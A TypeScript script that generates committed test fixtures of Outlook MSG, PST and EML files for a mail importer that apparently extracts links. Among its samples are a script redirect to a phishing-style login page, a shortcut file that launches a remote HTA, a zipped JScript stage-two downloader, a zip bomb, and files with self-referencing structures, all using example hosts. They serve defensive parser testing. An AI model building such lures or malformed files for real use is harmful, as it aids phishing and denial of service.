/**
 * Writes the binary fixtures of msg and pst and those of eml that hold binary attachments:
 * `node test/support/make-mail-fixtures.ts`. They are committed; this file says how they came to be. All names and addresses are
 * reserved for examples (RFC 2606, 5737).
 */
import { mkdirSync, writeFileSync } from 'node:fs'
import { decodeBlock } from '../../core/importers/mail/pst/cipher.ts'
import { makeMsg, type MsgMessage, type PropertyList } from './make-msg.ts'
import { makePdf } from './make-pdf.ts'
import { makePst, type PstSpec } from './make-pst.ts'
import { makeTnef } from './make-tnef.ts'
import { makeZip } from './make-zip.ts'
import { QR_PNG } from './qr-picture.ts'

const HEADERS = [
  'Received: from mx.corp.example (198.51.100.5) by store.corp.example with ESMTPS; Tue, 6 May 2031 07:01:10 +0000',
  'Received: from out.example.net (out.example.net [203.0.113.9])',
  ' by mx.corp.example with ESMTPS id 4Q; Tue, 6 May 2031 07:01:07 +0000',
  'Authentication-Results: mx.corp.example; spf=pass smtp.mailfrom=example.net; dkim=fail; dmarc=fail',
  'From: "Accounts (alice@corp.example)" <billing@example.net>',
  'Reply-To: refunds@example.org',
  'To: Bob <bob@corp.example>',
  'Subject: Invoice 77',
  'Date: Tue, 6 May 2031 09:01:00 +0200',
  'Message-ID: <m77@example.net>',
  'X-MS-Exchange-Organization-Network-Message-Id: 11111111-2222-3333-4444-555555555555',
  '',
].join('\r\n')
const SENT = new Date('2031-05-06T07:01:00Z')
const DELIVERED = new Date('2031-05-06T07:01:12Z')
const bob: PropertyList = {
  0x0c15: 1,
  0x3001: 'Bob',
  0x3002: 'EX',
  0x3003: '/o=CORP/ou=Users/cn=bob',
  0x39fe: 'Bob@corp.example',
}
const carol: PropertyList = { 0x0c15: 3, 0x3001: 'Carol', 0x3002: 'SMTP', 0x3003: 'carol@corp.example' }

const forwarded: MsgMessage = {
  properties: {
    0x001a: 'IPM.Note',
    0x0037: 'Original offer',
    0x1000: 'see https://inner.example/offer',
    0x5d01: 'dave@example.org',
  },
  attachments: [
    { properties: { 0x3707: 'inner.txt', 0x3701: Buffer.from('go to https://inner.example/file') } },
  ],
}
const received: MsgMessage = {
  properties: {
    0x001a: 'IPM.Note',
    0x0037: 'Invoice 77',
    0x0039: SENT,
    0x0e06: DELIVERED,
    0x0e07: 1,
    0x007d: HEADERS,
    0x1000: 'Pay here: https://pay.example/77\r\n',
    0x1013: Buffer.from('<p>Pay <a href="https://pay.example/77?v=html">here</a></p>'),
    0x1035: '<m77@example.net>',
    0x3fde: 65001,
    0x5d07: 'bob@corp.example',
  },
  recipients: [bob, carol],
  attachments: [
    {
      properties: {
        0x3707: 'invoice.htm',
        0x3704: 'INVOIC~1.HTM',
        0x370e: 'text/html',
        0x3705: 1,
        0x3701: Buffer.from('<script>location="https://kit.example/login"</script>'),
      },
    },
    { properties: { 0x3705: 5, 0x3001: 'Original offer' }, message: forwarded },
    { properties: { 0x3705: 7, 0x3707: 'plan.docx', 0x370d: 'https://files.example/plan.docx' } },
  ],
}

/** Uncompressed RTF that wraps HTML, as Exchange keeps mail whose HTML it took apart. */
function wrapRtf(text: string): Buffer {
  const body = Buffer.from(text, 'latin1')
  const head = Buffer.alloc(16)
  head.writeUInt32LE(body.length + 12, 0)
  head.writeUInt32LE(body.length, 4)
  head.writeUInt32LE(0x414c454d, 8)
  return Buffer.concat([head, body])
}
const RTF_HTML =
  '{\\rtf1\\ansi\\ansicpg1252\\fromhtml1 \\deff0{\\fonttbl{\\f0\\fswiss Arial;}}' +
  '{\\*\\htmltag64 <p>}\\htmlrtf {\\htmlrtf0 Caf\\\'e9 {\\*\\htmltag84 <a href="https://rtf.example/a?b=1">}' +
  '\\htmlrtf {\\field{\\*\\fldinst{HYPERLINK "https://rtf.example/a?b=1"}}{\\fldrslt\\cf1\\ul \\htmlrtf0 open\\htmlrtf }}\\htmlrtf0 ' +
  '{\\*\\htmltag92 </a>}{\\*\\htmltag72 </p>}}'
const RTF_PLAIN =
  "{\\rtf1\\ansi\\ansicpg1252{\\fonttbl{\\f0\\fnil\\fcharset134 SimSun;}}\\f0 \\'c4\\'e3 \\u26085 ?\\par " +
  '{\\field{\\*\\fldinst{HYPERLINK "https://rtf.example/field"}}{\\fldrslt click}}\\par https://rtf.example/text}'

const exchangeOnly: MsgMessage = {
  properties: {
    0x001a: 'IPM.Note',
    0x0037: 'Re: plan',
    0x0039: SENT,
    0x0e07: 0x21,
    0x0064: 'EX',
    0x0065: '/o=CORP/ou=Users/cn=alice',
    0x0042: 'Alice',
    0x1009: wrapRtf(RTF_HTML),
    0x1035: '<reply@corp.example>',
    0x1042: '<m77@example.net>',
    0x1039: '<m70@example.net> <m77@example.net>',
  },
  recipients: [bob, { 0x0c15: 2, 0x3001: 'Team', 0x3002: 'EX', 0x3003: '/o=CORP/cn=team' }],
}
const contact: MsgMessage = { properties: { 0x001a: 'IPM.Contact', 0x0037: 'Dave', 0x3001: 'Dave' } }

const folder = (id: string): URL => new URL(`../fixtures/${id}/`, import.meta.url)
function write(id: string, name: string, bytes: Uint8Array | string): void {
  mkdirSync(folder(id), { recursive: true })
  writeFileSync(new URL(name, folder(id)), bytes)
}

const good = makeMsg(received)
write('msg', 'good-received.msg', good)
write('msg', 'good-exchange-sent.msg', makeMsg(exchangeOnly))
write('msg', 'good-contact.msg', makeMsg(contact))
write('msg', 'truncated-attachments.msg', good.subarray(0, good.length - 3_000))
/** Messages inside messages, deeper than anyone reads; and a table of sectors that points to itself. */
const nest = (depth: number): MsgMessage => ({
  properties: { 0x001a: 'IPM.Note', 0x0037: `level ${depth}`, 0x1000: `https://level${depth}.example/` },
  attachments: depth === 0 ? [] : [{ properties: { 0x3705: 5 }, message: nest(depth - 1) }],
})
write('msg', 'hostile-nesting.msg', makeMsg(nest(12)))
const looped = Buffer.from(good)
for (let at = 512 + 4; at < looped.length; at += 512) {
  // every full table sector: each entry names itself as its follower
  if (looped.readUInt32LE(at - 4) !== 1 || looped.readUInt32LE(at) !== 2) continue
  for (let entry = 0; entry < 127; entry++) looped.writeUInt32LE(entry, at - 4 + entry * 4)
}
write('msg', 'hostile-loops.msg', looped)

const encode = (bytes: Buffer, cipher: number, block: number): void => {
  if (cipher !== 1) {
    decodeBlock(bytes, cipher, block)
    return
  }
  const table = Buffer.from(Array.from({ length: 256 }, (_, byte) => byte))
  decodeBlock(table, 1, 0)
  for (const [at, byte] of bytes.entries()) bytes[at] = table.indexOf(byte)
}
const ROOT = 0x122
const INBOX = 0x8082
const DEALS = 0x80a2
const SENT_ITEMS = 0x80c2
const store: PstSpec = {
  encode,
  cipher: 1,
  name: 'bob@corp.example',
  folders: [
    { id: ROOT, name: '', parent: ROOT },
    { id: INBOX, name: 'Inbox', parent: ROOT },
    { id: DEALS, name: 'Deals/2031', parent: INBOX },
    { id: SENT_ITEMS, name: 'Sent Items', parent: ROOT },
  ],
  items: [
    { id: 0x200004, folder: INBOX, ...received },
    { id: 0x200024, folder: SENT_ITEMS, ...exchangeOnly },
    { id: 0x200044, folder: DEALS, ...contact },
    {
      id: 0x200064,
      folder: DEALS,
      properties: {
        0x001a: 'IPM.Note',
        0x0037: 'Draft',
        0x0e07: 8,
        0x1009: wrapRtf(RTF_PLAIN),
        0x5d02: 'bob@corp.example',
      },
      attachments: [
        { properties: { 0x3707: 'lost.bin', 0x3705: 1 } },
        // more than one block, more than one level
        {
          properties: {
            0x3707: 'large.txt',
            0x3705: 1,
            0x3701: Buffer.from('https://large.example/\n'.repeat(900)),
          },
        },
      ],
    },
    ...Array.from({ length: 18 }, (_, index) => ({
      id: 0x200084 + index * 0x20,
      folder: INBOX,
      properties: {
        0x001a: 'IPM.Note',
        0x0037: `Note ${index}`,
        0x0e06: new Date(DELIVERED.getTime() + index * 60_000),
        0x1035: `<note${index}@example.net>`,
        0x0c1e: 'SMTP',
        0x0c1f: 'news@example.net',
        0x0c1a: 'News',
      },
    })),
  ],
}
const pst = makePst(store)
write('pst', 'good-mailbox.pst', pst)
const small = { ...store, items: store.items.slice(0, 3) }
write('pst', 'good-ansi-high-encryption.pst', makePst({ ...small, format: 'ansi', cipher: 2 }))
write('pst', 'good-cache.ost', makePst({ ...small, format: 'unicode-4k' }))
write('pst', 'truncated-index.pst', pst.subarray(0, pst.length - 600))
const looping = Buffer.from(pst)
const pages: number[] = []
for (let at = 0; at + 512 <= looping.length; at += 64)
  if (looping[at + 496] === 0x81 && looping[at + 497] === 0x81 && looping[at + 491] === 0) pages.push(at)
// a leaf that says it is a branch whose children are the root and itself
const root = Number(looping.readBigUInt64LE(0xe0))
const victim = pages.at(-1) ?? root
looping[victim + 490] = 24
looping[victim + 491] = 5
for (let at = 16; at < 480; at += 24)
  looping.writeBigUInt64LE(BigInt(at % 48 === 16 ? root : victim), victim + at)
write('pst', 'hostile-loops.pst', looping)

const PART = 'next'
const attach = (name: string, type: string, bytes: Uint8Array): string =>
  [
    `--${PART}`,
    `Content-Type: ${type}; name="${name}"`,
    `Content-Disposition: attachment; filename="${name}"`,
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(bytes).toString('base64').replace(/.{76}/g, '$&\r\n'),
    '',
  ].join('\r\n')
const mail = (subject: string, parts: readonly string[]): string =>
  [
    'From: Desk <desk@example.net>',
    'To: bob@corp.example',
    `Subject: ${subject}`,
    'Date: Tue, 6 May 2031 09:01:00 +0200',
    `Message-ID: <${subject.replaceAll(' ', '.')}@example.net>`,
    'MIME-Version: 1.0',
    `Content-Type: multipart/mixed; boundary="${PART}"`,
    '',
    `--${PART}`,
    'Content-Type: text/plain',
    '',
    'See attachments.',
    '',
    ...parts,
    `--${PART}--`,
    '',
  ].join('\r\n')

const docx = makeZip({
  'word/document.xml':
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:instrText>HYPERLINK "https://doc.exam</w:instrText></w:r>' +
    '<w:r><w:instrText>ple/field"</w:instrText></w:r></w:p><w:p><w:t>Visit https://doc.example/text now</w:t></w:p></w:document>',
  'word/_rels/document.xml.rels':
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://doc.example/link?a=1&amp;b=2" TargetMode="External"/>' +
    '<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://doc.example/template.dotm" TargetMode="External"/></Relationships>',
})
const xlsx = makeZip({
  'xl/worksheets/sheet1.xml':
    '<worksheet><c r="A1"><f>HYPERLINK("https://sheet.example/formula","open")</f><v>open</v></c></worksheet>',
})
const pptx = makeZip({
  'ppt/slides/_rels/slide1.xml.rels':
    '<Relationships><Relationship Id="r1" Target="https://slide.example/link" TargetMode="External"/></Relationships>',
})
const lnk = Buffer.concat([
  Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
  Buffer.alloc(56),
  Buffer.from('/c start https://lnk.example/run.hta', 'utf16le'),
])
const archive = makeZip({
  'invoice.js': 'WScript.CreateObject("MSXML2.XMLHTTP").open("GET", "https://zip.example/stage2", false)',
  'readme.txt': 'password: none',
})
const tnef = makeTnef({ 0x1000: 'Text of the rich mail: https://tnef.example/body', 0x0037: 'rich' }, [
  {
    title: 'plan.txt',
    bytes: Buffer.from('https://tnef.example/plan'),
    properties: { 0x3707: 'The plan.txt' },
  },
])
write(
  'eml',
  'good-attachments.eml',
  mail('every kind', [
    attach(
      'a.pdf',
      'application/pdf',
      makePdf('https://pdf.example/\\(a\\)', 'https://pdf.example/hidden', ['https://pdf', '.example/text']),
    ),
    attach('a.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', docx),
    attach('a.xlsx', 'application/octet-stream', xlsx),
    attach('a.pptx', 'application/octet-stream', pptx),
    attach(
      'a.ics',
      'text/calendar',
      Buffer.from(
        'BEGIN:VCALENDAR\r\nDESCRIPTION:join https://meet.exam\r\n ple/room\\nbye\r\nEND:VCALENDAR\r\n',
      ),
    ),
    attach(
      'a.url',
      'application/octet-stream',
      Buffer.from('[InternetShortcut]\r\nURL=https://shortcut.example/go\r\n'),
    ),
    attach(
      'a.webloc',
      'application/octet-stream',
      Buffer.from('<plist><dict><key>URL</key><string>https://webloc.example/go</string></dict></plist>'),
    ),
    attach('a.lnk', 'application/octet-stream', lnk),
    attach('a.msg', 'application/vnd.ms-outlook', makeMsg(forwarded)),
    attach('a.zip', 'application/zip', archive),
  ]),
)
write('eml', 'good-winmail.eml', mail('rich', [attach('winmail.dat', 'application/ms-tnef', tnef)]))
write('eml', 'good-qr.eml', mail('scan me', [attach('code.png', 'image/png', QR_PNG)]))
write(
  'eml',
  'hostile-attachments.eml',
  mail('bombs', [
    attach('bomb.zip', 'application/zip', makeZip({ 'zeros.txt': Buffer.alloc(30 << 20) })),
    attach('cut.zip', 'application/zip', archive.subarray(0, archive.length - 60)),
    attach(
      'cut.pdf',
      'application/pdf',
      makePdf('https://pdf.example/a', 'https://pdf.example/b', ['x']).subarray(0, 330),
    ),
    attach('locked.pdf', 'application/pdf', Buffer.from('%PDF-1.7\ntrailer << /Encrypt 9 0 R >>')),
    attach('winmail.dat', 'application/ms-tnef', tnef.subarray(0, tnef.length - 40)),
    attach('cut.msg', 'application/vnd.ms-outlook', good.subarray(0, 5_000)),
  ]),
)
